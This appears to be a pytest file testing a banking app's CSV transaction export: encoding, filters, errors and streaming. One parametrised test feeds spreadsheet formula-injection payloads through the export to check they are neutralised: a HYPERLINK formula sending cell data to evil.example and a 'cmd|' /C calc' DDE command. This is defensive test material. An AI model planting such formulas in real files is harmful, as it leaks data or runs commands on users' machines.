"""POST /api/v1/exports/csv/: the transaction list's rows as a streamed CSV file; amounts
as numbers, formulas neutralised, the list's filters, a fixed number of queries."""

import csv
import datetime
import io
from decimal import Decimal
from urllib.parse import urlencode

import pytest
import time_machine

from accounts.tests.factories import BankAccountFactory
from insights.exports import neutralise_cell
from insights.tests.factories import NOW, add_rows
from smartbank.testing import database_snapshot
from transactions.services import transfer_create
from transactions.tests.factories import CategoryFactory, TransactionFactory, default_category

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen_time")]

URL = "/api/v1/exports/csv/"
D = datetime.date
HEADER = (
    "Date,Posted date,Account,Description,Merchant,Category,Amount,Currency,Kind,Notes,"
    "Reference,Transaction ID\r\n"
)


@pytest.fixture
def frozen_time():
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


@pytest.fixture
def account(user):
    return BankAccountFactory(user=user, name="Everyday")


def content(response) -> str:
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def rows(response) -> list[list[str]]:
    text = content(response)
    assert text.startswith("\ufeff" + HEADER)
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]


def exported_ids(response) -> list[int]:
    return [int(row[-1]) for row in rows(response)]


# --- The file ---------------------------------------------------------------------------


def test_the_file_is_exact_utf8_with_a_bom_and_an_attachment(api_client, account, other_user):
    card = TransactionFactory(
        account=account,
        amount=Decimal("-12.50"),
        txn_date=D(2025, 3, 3),
        posted_date=D(2025, 3, 4),
        description="Card payment",
        merchant="Café Zoë",
        notes="milk, eggs",
    )
    salary = TransactionFactory(
        account=account,
        amount=Decimal("2500"),
        txn_date=D(2025, 3, 1),
        description='Salary "March"',
        merchant="ACME",
        category=None,
        external_id="BANK-1",
    )
    TransactionFactory(account=BankAccountFactory(user=other_user), description="Not yours")
    before = database_snapshot()

    response = api_client.post(URL, {}, format="json", HTTP_ACCEPT="text/csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="transactions-2025-04-10.csv"'
    assert content(response) == (
        "\ufeff"
        + HEADER
        + f'2025-03-03,2025-03-04,Everyday,Card payment,Café Zoë,Groceries,-12.50,EUR,expense,"milk, eggs",,{card.pk}\r\n'
        + f'2025-03-01,,Everyday,"Salary ""March""",ACME,,2500.00,EUR,income,,BANK-1,{salary.pk}\r\n'
    )
    assert database_snapshot() == before  # an export stores nothing


TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_cell_a_spreadsheet_would_run_is_neutralised_and_amounts_stay_numbers(
    api_client, user, trigger
):
    payload = f'{trigger}HYPERLINK("http://evil.example/?x="&A1,"click")'
    account = BankAccountFactory(user=user, name=f"{trigger}Account")
    category = CategoryFactory(user=user, name=f"{trigger}Category")
    TransactionFactory(
        account=account,
        amount=Decimal("-12.50"),
        txn_date=D(2025, 3, 3),
        description=payload,
        merchant=f"{trigger}cmd|' /C calc'!A0",
        category=category,
        notes=f"{trigger}1+1",
        external_id=f"{trigger}REF",
    )

    (row,) = rows(api_client.post(URL, {}, format="json"))

    assert row[2:6] == [
        f"'{trigger}Account",
        f"'{payload}",
        f"'{trigger}cmd|' /C calc'!A0",
        f"'{trigger}Category",
    ]
    assert (row[9], row[10]) == (f"'{trigger}1+1", f"'{trigger}REF")
    assert row[6] == "-12.50"  # a number, negative, not neutralised


def test_amounts_are_plain_numbers_with_two_decimals_unquoted(api_client, user):
    account = BankAccountFactory(user=user, opening_balance=Decimal("2000000.00"))
    TransactionFactory(account=account, amount=Decimal("-1234567.5"), txn_date=D(2025, 3, 3))
    TransactionFactory(account=account, amount=Decimal("0.1"), txn_date=D(2025, 3, 2))

    text = content(api_client.post(URL, {}, format="json"))

    assert ",-1234567.50,EUR,expense," in text
    assert ",0.10,EUR,income," in text


def test_only_leading_triggers_are_neutralised():
    assert neutralise_cell("Tesco = good, -5% off") == "Tesco = good, -5% off"
    assert neutralise_cell(" =1+1") == " =1+1"
    assert neutralise_cell("") == ""
    assert [neutralise_cell(f"{t}x") for t in TRIGGERS] == [f"'{t}x" for t in TRIGGERS]


# --- The list's filters -----------------------------------------------------------------


@pytest.fixture
def history(user, account):
    """Rows on two accounts, in several categories, kinds and dates."""
    savings = BankAccountFactory(user=user, name="Savings", opening_balance=Decimal("0"))
    groceries, dining = default_category("groceries"), default_category("dining")
    TransactionFactory(
        account=account,
        amount=Decimal("-4.20"),
        txn_date=D(2025, 3, 2),
        description="Morning coffee",
        merchant="Pret",
        category=dining,
    )
    TransactionFactory(
        account=account,
        amount=Decimal("-55.00"),
        txn_date=D(2025, 3, 5),
        description="Weekly shop",
        merchant="Tesco",
        category=groceries,
    )
    TransactionFactory(
        account=account,
        amount=Decimal("-3.10"),
        txn_date=D(2025, 2, 20),
        description="Coffee beans",
        merchant="Tesco",
        category=groceries,
    )
    TransactionFactory(
        account=account,
        amount=Decimal("2500.00"),
        txn_date=D(2025, 2, 28),
        description="Salary",
        merchant="ACME",
        category=None,
    )
    TransactionFactory(
        account=savings,
        amount=Decimal("12.00"),
        txn_date=D(2025, 3, 8),
        description="Interest",
        merchant="",
        category=None,
    )
    transfer_create(
        user=user,
        from_account=account,
        to_account=savings,
        amount=Decimal("100.00"),
        txn_date=D(2025, 3, 6),
        description="To savings",
    )
    return {"account": account, "savings": savings}


FILTER_SETS = [
    {},
    {"date_from": "2025-03-01", "date_to": "2025-03-06"},
    {"start_date": "2025-02-25", "end_date": "2025-03-05"},
    {"amount_min": "-10", "amount_max": "-0.01"},
    {"merchant": "tes"},
    {"category": "groceries"},
    {"categories": "groceries,dining"},
    {"kind": "transfer"},
    {"q": "coffee"},
    {"q": "coffee tesco"},
    {"ordering": "amount"},
    {"ordering": "-merchant,txn_date"},
]


@pytest.mark.parametrize("filters", FILTER_SETS, ids=lambda f: urlencode(f) or "none")
@pytest.mark.parametrize("body", ["json", "form"])
def test_the_file_holds_exactly_what_the_transaction_list_shows(api_client, history, filters, body):
    everything = api_client.get("/api/v1/transactions/").json()["count"]
    for account in (None, history["account"]):
        query = {**filters, **({"account": account.pk} if account else {})}
        listed = api_client.get("/api/v1/transactions/", {**query, "limit": 1000}).json()
        if body == "json":
            response = api_client.post(URL, query, format="json")
        else:
            response = api_client.post(
                URL, urlencode(query), content_type="application/x-www-form-urlencoded"
            )

        assert exported_ids(response) == [row["id"] for row in listed["results"]]
        # Each filter keeps some rows and, but for ordering alone, leaves some out.
        assert 0 < listed["count"] <= everything
        if set(query) - {"ordering"}:
            assert listed["count"] < everything


def test_a_json_list_of_categories_reads_as_the_query_strings_comma_list(api_client, history):
    as_list = exported_ids(
        api_client.post(URL, {"categories": ["groceries", "dining"]}, format="json")
    )
    as_text = exported_ids(api_client.post(URL, {"categories": "groceries,dining"}, format="json"))

    assert as_list == as_text and len(as_list) == 3


BAD_FILTERS = [
    ({"date_from": "yesterday"}, "date_from"),
    ({"date_to": "2025-02-30"}, "date_to"),
    ({"amount_min": "lots"}, "amount_min"),
    ({"amount_max": "1e400"}, "amount_max"),
    ({"kind": "gift"}, "kind"),
    ({"category": "no-such-category"}, "category"),
    ({"ordering": "password"}, "ordering"),
    ({"account": "abc"}, "account"),
]


@pytest.mark.parametrize(("filters", "field"), BAD_FILTERS)
def test_a_bad_filter_is_the_lists_400_naming_it(api_client, history, filters, field):
    before = database_snapshot()

    response = api_client.post(URL, filters, format="json")

    assert response.status_code == 400
    assert list(response.json()) == [field]
    assert response.json() == api_client.get("/api/v1/transactions/", filters).json()
    assert database_snapshot() == before


def test_another_customers_account_is_not_found(api_client, other_user):
    theirs = BankAccountFactory(user=other_user)
    TransactionFactory(account=theirs)

    response = api_client.post(URL, {"account": theirs.pk}, format="json")

    assert response.status_code == 400
    assert response.json() == {"account": ["Account not found."]}


@pytest.mark.parametrize(
    ("body", "errors"),
    [
        (
            ["date_from", "2025-01-01"],
            {"detail": 'Send the filters as a JSON object, e.g. {"date_from": "2025-01-01"}.'},
        ),
        (
            "2025-01-01",
            {"detail": 'Send the filters as a JSON object, e.g. {"date_from": "2025-01-01"}.'},
        ),
        (
            {"merchant": {"contains": "x"}},
            {"merchant": ["Send a value or a list of values, not an object."]},
        ),
        (
            {"categories": [["groceries"]]},
            {"categories": ["Send a value or a list of values, not an object."]},
        ),
    ],
)
def test_a_body_that_is_not_filters_is_a_400(api_client, account, body, errors):
    response = api_client.post(URL, body, format="json")

    assert response.status_code == 400
    assert response.json() == errors


def test_unauthenticated_is_401(anon_client):
    assert anon_client.post(URL, {}, format="json").status_code == 401


# --- Streaming and queries --------------------------------------------------------------


def test_the_query_count_does_not_grow_with_the_rows(
    api_client, account, django_assert_num_queries
):
    groceries = default_category("groceries")
    add_rows(account, [(D(2025, 3, 1), Decimal("-1.00"))] * 10, category=groceries)
    filters = {"account": account.pk, "category": "groceries", "date_from": "2025-01-01"}

    def exported() -> int:
        # Authentication, the account filter, the category filter, the rows.
        with django_assert_num_queries(4):
            return len(rows(api_client.post(URL, filters, format="json")))

    assert exported() == 10
    add_rows(account, [(D(2025, 3, 2), Decimal("-1.00"))] * 490, category=groceries)
    assert exported() == 500


def test_a_long_file_is_sent_in_chunks(api_client, account):
    add_rows(account, [(D(2025, 3, 1), Decimal("-1.00"))] * 1200)

    response = api_client.post(URL, {}, format="json")

    chunks = list(response.streaming_content)
    assert len(chunks) == 4  # the header, then 500 + 500 + 200 rows
    assert sum(chunk.count(b"\r\n") for chunk in chunks) == 1201
